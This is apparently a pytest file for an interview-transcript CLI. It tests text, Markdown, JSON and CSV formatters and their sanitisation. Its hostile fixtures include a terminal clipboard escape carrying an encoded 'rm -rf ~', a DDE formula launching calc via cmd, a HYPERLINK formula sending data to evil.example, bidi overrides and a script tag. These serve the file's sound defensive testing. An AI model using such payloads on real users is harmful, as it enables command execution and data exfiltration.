"""Formatters: ATS exactness, text/Markdown rendering and escaping, JSON, CSV safety."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest

from rztui.api.models import Interview, QuestionSet
from rztui.formats import (
    CSV_COLUMNS,
    FORMATS,
    STATUS_HELP,
    csv_rows,
    format_ats,
    format_json,
    format_jsonl_line,
    format_markdown,
    format_text,
    format_timestamp,
    human_duration,
    md_blockquote,
    md_inline,
    neutralise_formula,
    relative_time,
    render,
    status_help,
    write_csv,
)

Q1_TEXT = "Describe your experience with React hooks and when you would use them."
Q2_TEXT = "Tell me about a challenging bug you fixed recently."
A1 = (
    "I've been using React hooks extensively for the past three years. Hooks like useState and "
    "useEffect are fundamental to my development workflow. I particularly appreciate how they "
    "enable functional components to manage state and side effects without the complexity of "
    "class components. For instance, I recently used useReducer for complex state logic in a "
    "form validation system, and useMemo to optimize expensive calculations in a data "
    "visualization dashboard. The custom hooks I've created have helped our team maintain "
    "consistent patterns across the codebase."
)
A2 = "Last month, we had an intermittent race condition that only appeared in production..."

SPEC_COMPLETED: dict[str, Any] = {
    "id": "660f9511-f30c-52e5-b827-557766551111",
    "status": "completed",
    "job": {
        "id": "550e8400-e29b-41d4-a716-446655440000",
        "title": "Senior Frontend Developer",
        "department": "Engineering",
    },
    "candidate": {
        "id": "770g0622-g41d-63f6-c938-668877662222",
        "name": "Jane Smith",
        "email": "jane@example.com",
    },
    "started_at": "2024-01-16T14:30:00Z",
    "completed_at": "2024-01-16T14:52:00Z",
    "responses": [
        {
            "question_id": "880h1733-h52e-74g7-d049-779988773333",
            "question_text": Q1_TEXT,
            "question_type": "technical",
            "transcript": A1,
            "duration_seconds": 145,
            "answered_at": "2024-01-16T14:33:25Z",
        },
        {
            "question_id": "990i2844-i63f-85h8-e150-880099884444",
            "question_text": Q2_TEXT,
            "question_type": "experience",
            "transcript": A2,
            "duration_seconds": 167,
            "answered_at": "2024-01-16T14:38:12Z",
        },
    ],
    "created_at": "2024-01-15T10:30:00Z",
}

SPEC_INVITED: dict[str, Any] = {
    "id": "660f9511-f30c-52e5-b827-557766551111",
    "status": "invited",
    "job": {"id": "550e8400-e29b-41d4-a716-446655440000", "title": "Senior Frontend Developer"},
    "candidate": {
        "id": "770g0622-g41d-63f6-c938-668877662222",
        "name": "Jane Smith",
        "email": "jane@example.com",
    },
    "created_at": "2024-01-15T10:30:00Z",
    "expires_at": "2024-01-22T23:59:59Z",
}

SPEC_QUESTIONS: dict[str, Any] = {
    "interview_id": "660f9511-f30c-52e5-b827-557766551111",
    "questions": [
        {
            "id": "880h1733-h52e-74g7-d049-779988773333",
            "question_text": Q1_TEXT,
            "question_type": "technical",
            "time_limit_seconds": 180,
            "order": 0,
        },
        {
            "id": "990i2844-i63f-85h8-e150-880099884444",
            "question_text": Q2_TEXT,
            "question_type": "experience",
            "time_limit_seconds": 180,
            "order": 1,
        },
    ],
    "total_questions": 2,
    "estimated_duration_seconds": 360,
}

OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"
HOSTILE_NAME = "[@click=app.quit]Eve\x1b[2J\u202eliam"
HOSTILE_Q = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE_T = (
    f'Hello {OSC52}there, "quoted", comma\nsecond line\r\n'
    "# Heading\n[link](http://evil.example) <script>alert(1)</script> `code` *bold* _it_\n"
    "- item\n1. first\n\u202eevil"
)
HOSTILE: dict[str, Any] = {
    "id": "bad-1",
    "status": "completed",
    "job": {"title": "@SUM(1+1)*cmd|' /C calc'!A0", "department": "R&D"},
    "candidate": {"name": HOSTILE_NAME, "email": "+eve@example.com"},
    "completed_at": "2024-02-01T09:00:00+01:00",
    "responses": [
        {
            "question_id": "q-1",
            "question_text": HOSTILE_Q,
            "question_type": "-technical",
            "transcript": HOSTILE_T,
            "duration_seconds": 60,
        },
        {
            "question_id": "q-2",
            "question_text": "Numbers?",
            "question_type": "misc",
            "transcript": "-5",
            "duration_seconds": 12.5,
        },
    ],
}


def spec_interview() -> Interview:
    return Interview.from_api(json.loads(json.dumps(SPEC_COMPLETED)))


def hostile_interview() -> Interview:
    return Interview.from_api(json.loads(json.dumps(HOSTILE)))


# --------------------------------------------------------------------------- ATS


def test_ats_matches_spec_format_transcripts_exactly() -> None:
    expected = f"Q1: {Q1_TEXT}\nA: {A1}\n\n---\n\nQ2: {Q2_TEXT}\nA: {A2}\n"
    assert format_ats(spec_interview()) == expected


def test_ats_single_and_no_responses() -> None:
    one = dict(SPEC_COMPLETED, responses=SPEC_COMPLETED["responses"][:1])
    assert format_ats(Interview.from_api(one)) == f"Q1: {Q1_TEXT}\nA: {A1}\n"
    assert format_ats(Interview.from_api(SPEC_INVITED)) == ""


def test_ats_is_raw_by_default_and_cleaned_when_safe() -> None:
    raw = format_ats(hostile_interview())
    assert OSC52 in raw and "\u202e" in raw
    safe = format_ats(hostile_interview(), safe=True)
    assert "\x1b" not in safe and "\x07" not in safe and "\u202e" not in safe
    assert "Hello there" in safe
    assert safe.startswith(f"Q1: {HOSTILE_Q}\nA: Hello there")


# --------------------------------------------------------------------------- helpers


@pytest.mark.parametrize(
    ("seconds", "expected"),
    [
        (None, "—"),
        (0, "0s"),
        (59, "59s"),
        (145, "2m 25s"),
        (167.4, "2m 47s"),
        (12.5, "13s"),
        (3600, "1h 0m 0s"),
        (3725, "1h 2m 5s"),
        (-5, "-5s"),
    ],
)
def test_human_duration(seconds: float | None, expected: str) -> None:
    assert human_duration(seconds) == expected


def test_format_timestamp_is_utc() -> None:
    dt = datetime(2024, 2, 1, 10, 0, 5, tzinfo=timezone(timedelta(hours=1)))
    assert format_timestamp(dt) == "2024-02-01 09:00:05 UTC"
    assert format_timestamp(None) == "—"


def test_relative_time() -> None:
    now = datetime(2024, 1, 16, 12, 0, tzinfo=UTC)
    assert relative_time(now - timedelta(seconds=10), now) == "just now"
    assert relative_time(now - timedelta(minutes=5), now) == "5m ago"
    assert relative_time(now - timedelta(hours=3, minutes=20), now) == "3h ago"
    assert relative_time(now + timedelta(days=2, hours=1), now) == "in 2d"
    assert relative_time(now - timedelta(days=400), now) == "1y ago"
    assert relative_time(None, now) == "—"


# --------------------------------------------------------------------------- text


def test_text_completed_header_and_blocks() -> None:
    text = format_text(spec_interview())
    assert "Candidate:  Jane Smith\n" in text
    assert "Email:      jane@example.com\n" in text
    assert "Department: Engineering\n" in text
    assert "Started:    2024-01-16 14:30:00 UTC\n" in text
    assert "Completed:  2024-01-16 14:52:00 UTC\n" in text
    assert "Duration:   5m 12s (2 responses)\n" in text
    assert "Expires" not in text
    meta = "    technical · 2m 25s · answered 2024-01-16 14:33:25 UTC"
    assert f"Q1. {Q1_TEXT}\n{meta}\n\n{A1}\n" in text
    assert f"Q2. {Q2_TEXT}\n" in text
    assert STATUS_HELP["completed"] not in text


def test_text_invited_explains_status() -> None:
    text = format_text(Interview.from_api(SPEC_INVITED))
    assert "Expires:    2024-01-22 23:59:59 UTC\n" in text
    assert STATUS_HELP["invited"] in text
    assert "credits are reserved but not consumed" in text
    assert "No responses." in text


def test_status_help_for_every_status() -> None:
    assert set(STATUS_HELP) == {"invited", "in_progress", "completed", "expired"}
    assert "released" in STATUS_HELP["expired"]
    assert "consumed" in STATUS_HELP["in_progress"]
    assert status_help("paused\x1b[31m") == "status 'paused' is not one rztui knows"
    text = format_text(Interview.from_api(dict(SPEC_INVITED, status="archived")))
    assert "status 'archived' is not one rztui knows" in text


def test_text_is_safe_by_default() -> None:
    text = format_text(hostile_interview())
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "Candidate:  [@click=app.quit]Eveliam\n" in text
    assert "second line\n# Heading" in text  # newlines in transcripts survive, CRLF normalised
    raw = format_text(hostile_interview(), safe=False)
    assert OSC52 in raw


# --------------------------------------------------------------------------- Markdown


def test_markdown_spec_document() -> None:
    md = format_markdown(spec_interview())
    assert md.startswith("# Interview: Jane Smith\n\n- **Candidate:** Jane Smith\n")
    assert f"## Q1. {Q1_TEXT}\n\n*technical · 2m 25s · answered 2024-01-16 14:33:25 UTC*\n" in md
    assert "\n> I've been using React hooks" in md


def test_md_inline_escapes_markdown_and_html() -> None:
    assert md_inline("[x](http://e) <b>`c`</b> *s* _u_ #h") == (
        r"\[x\](http://e) \<b\>\`c\`\</b\> \*s\* \_u\_ \#h"
    )
    assert md_inline("a\nb\r\nc") == "a b c"
    assert md_inline(r"back\slash & |pipe|") == r"back\\slash \& \|pipe\|"


def test_md_blockquote_neutralises_block_constructs() -> None:
    quoted = md_blockquote("# Heading\n- item\n+ plus\n1. first\n2) second\n===\n    code\n\nend")
    assert quoted.split("\n") == [
        r"> \# Heading  ",
        r"> \- item  ",
        r"> \+ plus  ",
        r"> 1\. first  ",
        r"> 2\) second  ",
        r"> \===  ",
        "> code  ",
        ">",
        "> end",
    ]


def test_markdown_hostile_cannot_inject() -> None:
    md = format_markdown(hostile_interview())
    assert "\x1b" not in md and "\u202e" not in md
    lines = md.split("\n")
    # The only headings are ours.
    assert [line for line in lines if line.startswith("#")] == [
        r"# Interview: \[@click=app.quit\]Eveliam",
        '## Q1. =HYPERLINK("http://evil.example/?x="\\&A1,"click")',
        "## Q2. Numbers?",
    ]
    assert "<script>" not in md and "](http" not in md.replace(r"\](http", "")
    assert r"> \# Heading" in md
    assert r"\<script\>" in md
    assert r"\[link\](http://evil.example)" in md


# --------------------------------------------------------------------------- JSON


def test_json_is_the_api_payload() -> None:
    interview = spec_interview()
    assert json.loads(format_json(interview)) == SPEC_COMPLETED
    assert format_json(interview).startswith('{\n  "id": "660f9511')
    line = format_jsonl_line(interview)
    assert "\n" not in line and json.loads(line) == SPEC_COMPLETED


def test_jsonl_line_is_one_line_even_with_unicode_separators() -> None:
    data = dict(SPEC_INVITED, candidate={"name": "a\u2028b\x85c\nd é"})
    line = format_jsonl_line(Interview.from_api(data))
    assert len(line.splitlines()) == 1
    assert "é" in line  # ensure_ascii=False
    assert json.loads(line)["candidate"]["name"] == "a\u2028b\x85c\nd é"


def test_formats_registry() -> None:
    assert set(FORMATS) == {"text", "ats", "markdown", "json"}
    interview = spec_interview()
    assert FORMATS["ats"](interview) == format_ats(interview)
    assert render("markdown", interview) == format_markdown(interview)
    with pytest.raises(KeyError):
        render("yaml", interview)


# --------------------------------------------------------------------------- CSV


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20 7946", "'+44 20 7946"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ('  =HYPERLINK("x")', '\'  =HYPERLINK("x")'),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("145", "145"),
        ("-", "'-"),
        ("-2+3", "'-2+3"),
        ("hello = world", "hello = world"),
        ("", ""),
    ],
)
def test_neutralise_formula(cell: str, expected: str) -> None:
    assert neutralise_formula(cell) == expected


def test_csv_rows_spec_with_question_orders() -> None:
    rows = csv_rows(spec_interview(), QuestionSet.from_api(SPEC_QUESTIONS))
    assert len(rows) == 2
    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
    first = dict(zip(CSV_COLUMNS, rows[0], strict=True))
    assert first == {
        "interview_id": "660f9511-f30c-52e5-b827-557766551111",
        "status": "completed",
        "candidate_name": "Jane Smith",
        "candidate_email": "jane@example.com",
        "job_title": "Senior Frontend Developer",
        "completed_at": "2024-01-16T14:52:00Z",
        "question_order": "0",
        "question_id": "880h1733-h52e-74g7-d049-779988773333",
        "question_text": Q1_TEXT,
        "question_type": "technical",
        "duration_seconds": "145",
        "transcript": A1,
        "rating": "",
        "answer_rating": "",
        "note": "",
        "shortlisted": "false",
    }
    assert rows[1][CSV_COLUMNS.index("question_order")] == "1"


def test_csv_rows_position_without_questions_and_empty_interview() -> None:
    rows = csv_rows(spec_interview())
    assert [r[CSV_COLUMNS.index("question_order")] for r in rows] == ["0", "1"]
    (row,) = csv_rows(Interview.from_api(SPEC_INVITED))
    assert row[:6] == [
        "660f9511-f30c-52e5-b827-557766551111",
        "invited",
        "Jane Smith",
        "jane@example.com",
        "Senior Frontend Developer",
        "",
    ]
    assert row[6:] == [""] * 9 + ["false"]


def test_csv_hostile_round_trip() -> None:
    rows = csv_rows(hostile_interview())
    buffer = io.StringIO(newline="")
    assert write_csv(buffer, rows) == 2
    back = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert back[0] == CSV_COLUMNS
    assert back[1:] == rows
    first = dict(zip(CSV_COLUMNS, back[1], strict=True))
    assert first["candidate_name"] == "[@click=app.quit]Eveliam"  # ESC, CSI and bidi stripped
    assert first["candidate_email"] == "'+eve@example.com"
    assert first["job_title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert first["question_text"] == "'" + HOSTILE_Q
    assert first["question_type"] == "'-technical"
    assert first["completed_at"] == "2024-02-01T08:00:00Z"
    assert first["transcript"] == (
        'Hello there, "quoted", comma\nsecond line\n# Heading\n'
        "[link](http://evil.example) <script>alert(1)</script> `code` *bold* _it_\n"
        "- item\n1. first\nevil"
    )
    second = dict(zip(CSV_COLUMNS, back[2], strict=True))
    assert second["transcript"] == "-5"  # a plain number stays a number
    assert second["duration_seconds"] == "12.5"


def test_write_csv_bom_and_multiple_interviews() -> None:
    buffer = io.StringIO(newline="")
    rows = [*csv_rows(spec_interview()), *csv_rows(Interview.from_api(SPEC_INVITED))]
    assert write_csv(buffer, iter(rows), excel_bom=True) == 3
    text = buffer.getvalue()
    assert text.startswith("\ufeffinterview_id,status,")
    assert text.endswith("\r\n")
    assert len(list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))) == 4
